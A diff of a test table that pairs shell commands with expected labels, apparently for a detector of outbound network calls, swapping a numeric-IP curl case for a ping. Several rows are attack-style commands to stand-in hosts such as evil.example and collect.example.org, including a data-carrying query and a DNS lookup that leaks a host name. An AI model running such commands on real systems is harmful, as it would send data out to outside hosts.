@@ -7,7 +7,7 @@ it.each([
   ['curl https://collect.example.org/?d=web-1', 'curl collect.example.org'],
   ['curl --resolve localhost:80:203.0.113.7 http://localhost/', 'curl 203.0.113.7'],
   ['timeout 5 wget -qO- http://203.0.113.7/x', 'wget 203.0.113.7'],
-  ['curl http://3405803783/', 'curl 3405803783'],
+  ['ping -c 1 3405803783', 'ping 3405803783'],
   ['curl http://[2001:db8::7]/', 'curl 2001:db8::7'],
   ['curl evil.example/x', 'curl evil.example'],
   ['dig hostname.of.web-1.evil.example', 'dig hostname.of.web-1.evil.example'],
